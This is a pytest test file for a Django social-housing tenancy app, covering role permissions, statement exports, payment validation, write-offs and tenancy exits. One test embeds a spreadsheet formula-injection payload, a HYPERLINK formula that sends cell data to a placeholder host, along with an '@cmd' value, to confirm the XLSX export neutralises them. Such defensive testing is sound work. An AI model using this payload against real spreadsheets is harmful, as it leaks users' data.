"""Pages of tenancies: the permission matrix of every page and the forms' refusals."""

from __future__ import annotations

import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils.html import escape
from django.utils.translation import gettext
from openpyxl import load_workbook

from abitare.accounts.testing import acting
from abitare.core.models import AccessLogEntry
from abitare.housing.models import Unit
from abitare.registry.tests.factories import make_household, make_person
from abitare.tenancies.models import LedgerEntry, SavingsEntry, Tenancy, TenancyExit, WriteOffRequest
from abitare.tenancies.services import ledger, ledger_batch, savings
from abitare.tenancies.tests.factories import make_unit
from conftest import client_for

JAN = datetime.date(2025, 1, 1)


@pytest.fixture
def setup(service_tenancy, operator):
    ledger_batch.charges_issue_month(month=JAN)
    payment = ledger.payment_record(actor=acting(operator), tenancy=service_tenancy, amount="100", value_date=JAN)
    deposit = savings.savings_deposit(actor=acting(operator), tenancy=service_tenancy, amount="50", value_date=JAN)
    request = ledger.write_off_request(actor=acting(operator), tenancy=service_tenancy, amount="10", reason="Hardship")
    return {"tenancy": service_tenancy, "payment": payment, "deposit": deposit, "request": request}


def _pages(setup):
    t = setup["tenancy"].pk
    return {
        "tenancy-list": reverse("tenancies:tenancy-list"),
        "tenancy-create": reverse("tenancies:tenancy-create"),
        "tenancy-detail": reverse("tenancies:tenancy-detail", args=[t]),
        "tenancy-exit": reverse("tenancies:tenancy-exit", args=[t]),
        "tenancy-contract": reverse("tenancies:tenancy-contract", args=[t]),
        "statement-pdf": reverse("tenancies:statement-pdf", args=[t]),
        "statement-xlsx": reverse("tenancies:statement-xlsx", args=[t]),
        "payment-create": reverse("tenancies:payment-create", args=[t]),
        "charge-create": reverse("tenancies:charge-create", args=[t]),
        "write-off-create": reverse("tenancies:write-off-create", args=[t]),
        "savings-deposit": reverse("tenancies:savings-deposit", args=[t]),
        "entry-reverse": reverse("tenancies:entry-reverse", args=[setup["payment"].pk]),
        "savings-entry-reverse": reverse("tenancies:savings-entry-reverse", args=[setup["deposit"].pk]),
        "write-off-decide": reverse("tenancies:write-off-decide", args=[setup["request"].pk]),
    }


OBJECT_PAGES = {
    "tenancy-detail",
    "tenancy-exit",
    "tenancy-contract",
    "statement-pdf",
    "statement-xlsx",
    "payment-create",
    "charge-create",
    "write-off-create",
    "savings-deposit",
    "entry-reverse",
    "savings-entry-reverse",
    "write-off-decide",
}


def test_permission_matrix_of_every_page(
    setup, client, operator, coordinator, facilitator, administrator, other_org_operator
):
    pages = _pages(setup)
    for name, url in pages.items():
        assert client.get(url).status_code == 302, name
        assert client_for(facilitator).get(url).status_code == 403, name
        assert client_for(administrator).get(url).status_code == 403, name
        coordinator_status = client_for(coordinator).get(url).status_code
        assert coordinator_status == 200, name
        operator_status = client_for(operator).get(url).status_code
        assert operator_status == (403 if name == "write-off-decide" else 200), name
        other = client_for(other_org_operator).get(url).status_code
        if name == "write-off-decide":
            assert other == 403, name
        elif name in OBJECT_PAGES:
            assert other == 404, name
        else:
            assert other == 200, name


def test_another_organisation_does_not_see_the_tenancy_in_the_list(setup, other_org_operator):
    page = client_for(other_org_operator).get(reverse("tenancies:tenancy-list"))

    assert setup["tenancy"].reference not in page.content.decode()


def test_the_tenancy_page_shows_the_statement_and_logs_the_read(setup, operator):
    url = reverse("tenancies:tenancy-detail", args=[setup["tenancy"].pk])
    page = client_for(operator).get(url + "?date_from=2025-01-01&date_to=2025-12-31")

    body = page.content.decode()
    assert setup["tenancy"].reference in body
    assert "250,00" in body or "250.00" in body
    assert gettext("Rent and service charges %(month)s") % {"month": "01/2025"} in body
    assert AccessLogEntry.objects.filter(record_type="tenancies.tenancy", record_id=str(setup["tenancy"].pk)).exists()


def test_the_exports_are_a_pdf_and_a_spreadsheet(setup, operator):
    client = client_for(operator)
    t = setup["tenancy"].pk

    contract = client.get(reverse("tenancies:tenancy-contract", args=[t]))
    pdf = client.get(reverse("tenancies:statement-pdf", args=[t]) + "?date_from=2025-01-01&date_to=2025-12-31")
    xlsx = client.get(reverse("tenancies:statement-xlsx", args=[t]))

    assert contract.content.startswith(b"%PDF")
    assert pdf.content.startswith(b"%PDF")
    assert xlsx.content.startswith(b"PK")

    sheet = load_workbook(BytesIO(xlsx.content)).active
    values = [row for row in sheet.iter_rows(values_only=True) if row and row[0] is not None]
    assert any(row[6] == 250 for row in values if len(row) > 6)


def test_a_payment_reference_that_looks_like_a_formula_is_text_in_the_statement_xlsx(setup, operator):

    payload = '=HYPERLINK("http://example.invalid/?d="&A1,"Apri")'
    ledger.payment_record(
        actor=acting(operator),
        tenancy=setup["tenancy"],
        amount="5",
        value_date=JAN,
        reference=payload,
        description="@cmd",
    )

    xlsx = client_for(operator).get(reverse("tenancies:statement-xlsx", args=[setup["tenancy"].pk]))

    sheet = load_workbook(BytesIO(xlsx.content)).active
    (row,) = [row for row in sheet.iter_rows() if row[3].value == payload]
    assert (row[3].data_type, row[3].quotePrefix) == ("s", True)
    assert (row[2].value, row[2].data_type, row[2].quotePrefix) == ("@cmd", "s", True)
    assert (row[5].value, row[5].data_type) == (5, "n")
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)


@pytest.mark.parametrize("amount", ["0", "-10"])
def test_a_payment_of_zero_or_less_is_refused_on_the_page(setup, operator, amount):
    before = LedgerEntry.objects.count()

    page = client_for(operator).post(
        reverse("tenancies:payment-create", args=[setup["tenancy"].pk]),
        {"amount": amount, "value_date": "2025-01-10", "reference": "", "payer_iban": ""},
    )

    assert page.status_code == 400
    assert escape(gettext("The amount must be more than zero.")) in page.content.decode()
    assert LedgerEntry.objects.count() == before


def test_a_payment_recorded_on_the_page(setup, operator):
    page = client_for(operator).post(
        reverse("tenancies:payment-create", args=[setup["tenancy"].pk]),
        {"amount": "80.00", "value_date": "2025-01-10", "reference": "AB", "payer_iban": ""},
    )

    assert page.status_code == 302
    assert LedgerEntry.objects.filter(kind="payment", amount=Decimal("80.00"), created_by=operator).exists()


def test_a_reversal_on_the_page_needs_a_reason_and_happens_once(setup, operator):
    client = client_for(operator)
    url = reverse("tenancies:entry-reverse", args=[setup["payment"].pk])

    missing = client.post(url, {"reason": ""})
    done = client.post(url, {"reason": "Wrong household"})
    again = client.post(url, {"reason": "Again"})

    assert missing.status_code == 400
    assert done.status_code == 302
    assert again.status_code == 400
    assert gettext("This entry is already reversed.") in again.content.decode()
    assert LedgerEntry.objects.filter(kind="reversal").count() == 1


def test_a_charge_outside_the_tenancy_is_refused_on_the_page(setup, operator):
    before = LedgerEntry.objects.count()

    page = client_for(operator).post(
        reverse("tenancies:charge-create", args=[setup["tenancy"].pk]), {"month": "2024-11-01"}
    )

    assert page.status_code == 400
    assert LedgerEntry.objects.count() == before


def test_an_operator_cannot_approve_a_write_off_and_a_coordinator_can(setup, operator, coordinator):
    url = reverse("tenancies:write-off-decide", args=[setup["request"].pk])

    denied = client_for(operator).post(url, {"decision": "approve", "note": ""})
    assert denied.status_code == 403
    assert WriteOffRequest.objects.get().status == "pending"
    assert not LedgerEntry.objects.filter(kind="write_off").exists()

    approved = client_for(coordinator).post(url, {"decision": "approve", "note": "ok"})
    assert approved.status_code == 302
    assert LedgerEntry.objects.get(kind="write_off").created_by == coordinator


def test_creating_a_tenancy_by_hand_on_the_page(world, operator):

    unit = make_unit(operator, territory=world.neighbourhood, organisation=world.organisation, code="9Z")
    household = make_household(operator, make_person(operator, n=9), name="Famiglia Nove")
    url = reverse("tenancies:tenancy-create")
    data = {
        "household": household.pk,
        "unit": unit.pk,
        "pathway": "agreed_rent",
        "starts_on": "2025-02-01",
        "contract_type": "agreed_rent",
        "ends_on": "",
        "monthly_rent": "",
        "monthly_charges": "",
        "savings_deposit": "",
        "due_day": "5",
    }

    page = client_for(operator).post(url, data)

    tenancy = Tenancy.objects.get()
    assert page.status_code == 302
    assert tenancy.ends_on == datetime.date(2028, 1, 31)
    assert Unit.objects.get(pk=unit.pk).state == Unit.State.OCCUPIED


def test_the_exit_page_records_the_exit_and_the_unit_goes_back(setup, operator, facilitator):
    url = reverse("tenancies:tenancy-exit", args=[setup["tenancy"].pk])
    data = {
        "exited_on": "2025-01-31",
        "destination": "private_market",
        "savings_funds": "security_deposit",
        "notes": "",
    }

    denied = client_for(facilitator).post(url, data)
    assert denied.status_code == 403
    assert TenancyExit.objects.count() == 0

    missing_funds = client_for(operator).post(url, {**data, "savings_funds": ""})
    assert missing_funds.status_code == 400
    assert TenancyExit.objects.count() == 0

    done = client_for(operator).post(url, data)
    assert done.status_code == 302
    assert SavingsEntry.objects.filter(kind="payout", funds="security_deposit").exists()
    released = client_for(operator).post(reverse("tenancies:tenancy-release-unit", args=[setup["tenancy"].pk]))
    assert released.status_code == 302
    assert Unit.objects.get(pk=setup["tenancy"].unit_id).state == Unit.State.AVAILABLE


def test_renewal_is_refused_to_other_roles_and_done_once_for_a_service_contract(setup, operator, facilitator):
    url = reverse("tenancies:tenancy-renew", args=[setup["tenancy"].pk])

    assert client_for(facilitator).post(url).status_code == 403
    assert Tenancy.objects.get().renewals == 0
    client_for(operator).post(url)
    client_for(operator).post(url)

    assert Tenancy.objects.get().renewals == 1
